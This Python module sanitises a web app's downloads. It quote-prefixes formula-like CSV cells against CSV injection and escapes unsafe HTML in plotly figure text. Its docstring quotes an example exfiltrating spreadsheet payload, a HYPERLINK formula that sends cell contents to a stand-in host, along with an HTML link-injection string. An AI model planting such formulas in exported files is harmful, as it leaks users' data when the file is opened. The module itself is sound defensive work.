"""Exports that stay data: CSV safe to open in spreadsheets, plotly text that stays text.

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read
by spreadsheet programs as a formula ("CSV injection"): a study named
``=HYPERLINK("http://host/?"&A1, "x")`` would run when the downloaded table is opened.
:func:`csv_bytes` prefixes such cells with a single quote (the OWASP recommendation), so the
spreadsheet shows them as text. Numbers are never changed: numeric columns are written as
they are, and a text cell that is a plain number (``"-5"``, ``"+1.5e3"``) is left alone
because a spreadsheet reads it as that number, not as a formula. The encoding is reversible
(``quote-prefix/1``): a text cell that already begins with ``'`` gets one more, so removing one
leading ``'`` from every text cell that has one (:func:`unneutralize_frame`; in R
``sub("^'", "", x)``) gives back exactly what was written. The downloaded scripts and the bundle
loader do that, so a study called ``=HYPERLINK(…)`` is found by its own name.

Plotly renders a small HTML dialect in every text it draws (tick labels, hover boxes,
annotations, legend names): ``<a href>`` makes a link, ``<span style>`` styles it.
:func:`safe_figure` turns every other ``<`` in a figure into ``&lt;`` (plotly shows the
character), so a study called ``<a href="http://host">x</a>`` is shown as typed, on screen,
in the HTML download and in the HTML report.
"""

from __future__ import annotations

import html
import re
from typing import Any

import numpy as np
import pandas as pd

__all__ = ["CSV_ENCODING", "FORMULA_START", "neutralize_cell", "neutralize_frame", "unneutralize_frame", "csv_bytes",
           "plotly_text", "safe_figure"]

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
#: The name of the reversible encoding :func:`csv_bytes` applies (written into bundle manifests).
CSV_ENCODING = "quote-prefix/1"
_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def neutralize_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` when it is text a spreadsheet would run as a formula — or text
    that already begins with ``'``, so the encoding is reversible (:func:`unneutralize_cell`)."""
    if isinstance(value, str) and (value.startswith("'") or (
            value.startswith(FORMULA_START) and not _NUMBER.match(value.strip()))):
        return "'" + value
    return value


def unneutralize_cell(value: Any) -> Any:
    """The text :func:`neutralize_cell` was given: one leading ``'`` removed from text that has one.
    (R: ``sub("^'", "", x)`` on every text column and on the column names.)"""
    return value[1:] if isinstance(value, str) and value.startswith("'") else value


def unneutralize_frame(df: pd.DataFrame) -> pd.DataFrame:
    """``df`` read back from a :func:`csv_bytes` file exactly: :func:`unneutralize_cell` on every text
    cell and column name (numbers never begin with ``'``)."""
    out = df.copy(deep=False)
    for c in out.columns:
        col = out[c]
        if pd.api.types.is_string_dtype(col.dtype) or col.dtype == "object":
            starts = col.astype("string").str.startswith("'")
            if starts.fillna(False).astype(bool).any():
                out[c] = col.map(unneutralize_cell, na_action="ignore")
    out.columns = [unneutralize_cell(c) for c in out.columns]
    return out


def _neutral_name(name: Any) -> Any:
    return neutralize_cell(name) if isinstance(name, str) else name


def neutralize_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``df`` whose text cells and column names pass through :func:`neutralize_cell`;
    numeric, boolean and date columns are untouched."""
    out = df.copy()
    for c in out.columns:
        col = out[c]
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)
        if pd.api.types.is_string_dtype(col.dtype) or col.dtype == "object":
            mask = col.map(lambda v: isinstance(v, str) and v.startswith((*FORMULA_START, "'")), na_action="ignore")
            if mask.fillna(False).astype(bool).any():
                out[c] = col.map(neutralize_cell, na_action="ignore")
    out.columns = [_neutral_name(c) for c in out.columns]
    if not isinstance(out.index, pd.RangeIndex):
        out.index = out.index.map(_neutral_name)
    return out


def csv_bytes(df: pd.DataFrame, index: bool = False) -> bytes:
    """``df`` as UTF-8 CSV bytes for download, formula-like text cells neutralised
    (:func:`neutralize_frame`), RFC 4180 line ends. Every CSV the app offers is written by
    this function."""
    # CRLF line ends (RFC 4180) also make the csv writer quote a text cell holding a lone CR
    return neutralize_frame(df).to_csv(index=index, lineterminator="\r\n").encode("utf-8")


# bidirectional overrides, embeddings, isolates and marks reorder the rest of a text
# ... and C0/C1 control characters (a NUL in a study name made kaleido's PNG export fail, issue 25 #10)
_CONTROL = re.compile(r"[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f]")


def _plain(value: Any) -> str:
    return _CONTROL.sub("", re.sub(r"[\r\n\t\v\f\u2028\u2029]+", " ", str(value)))


# Plotly renders these tags in text (bold, italics, line break, super/subscript, the hover
# box's <extra>), and the forest's text blocks give each line its size and a hex colour with one
# exact span form (analysis.plots_meta._block); anything else that looks like a tag is shown as
# text after escaping.
_PLOTLY_TAG = re.compile(r"<(?!/?(?:b|i|em|sup|sub|br|extra)\s*/?>"
                         r'|span style="font-size:\d+(?:\.\d+)?px(?:;color:#[0-9a-fA-F]{3,8})?">|/span>)',
                         re.IGNORECASE)


def plotly_text(value: Any) -> str:
    """A user string for plotly text (hover, annotation, tick or legend text): HTML-escaped,
    line breaks and bidirectional controls removed. Plotly decodes the entities, so the
    reader sees the original characters; none of them becomes a tag or a link."""
    return html.escape(_plain(value), quote=False)


def _sanitize(obj: Any) -> tuple[Any, bool]:
    """(sanitized copy, whether anything changed)."""
    if isinstance(obj, str):
        if "<" in obj or _CONTROL.search(obj):
            clean = _PLOTLY_TAG.sub("&lt;", _CONTROL.sub("", obj))
            return clean, clean != obj
        return obj, False
    if isinstance(obj, dict):
        pairs = {k: _sanitize(v) for k, v in obj.items()}
        if any(ch for _, ch in pairs.values()):
            return {k: v for k, (v, _) in pairs.items()}, True
        return obj, False
    if isinstance(obj, (list, tuple)) or (isinstance(obj, np.ndarray) and obj.dtype.kind in "OUS"):
        items = [_sanitize(v) for v in obj]
        if any(ch for _, ch in items):
            vals = [v for v, _ in items]
            return (np.array(vals, dtype=object) if isinstance(obj, np.ndarray) else type(obj)(vals)), True
        return obj, False
    return obj, False


def safe_figure(fig):
    """``fig`` with every string that could become markup in plotly neutralised: a ``<`` that
    does not open one of plotly's simple formatting tags (``<b>``, ``<i>``, ``<br>``, ``<sup>``,
    ``<sub>``, ``<em>``, ``<extra>``) becomes ``&lt;`` (links, spans with styles and unknown
    tags stay text); bidirectional controls are removed. Idempotent; the figure is changed in
    place (traces and layout, except the theme template) and returned; a figure it has already
    made safe is returned at once (figures shared between sessions are never written to)."""
    if getattr(fig, "_text_is_safe", False):
        return fig
    for trace in fig.data:
        for key, value in trace.to_plotly_json().items():
            if key == "type":
                continue
            clean, changed = _sanitize(value)
            if changed:
                trace[key] = clean
    for key, value in fig.layout.to_plotly_json().items():
        if key == "template":
            continue
        clean, changed = _sanitize(value)
        if changed:
            fig.layout[key] = clean
    fig._text_is_safe = True
    return fig
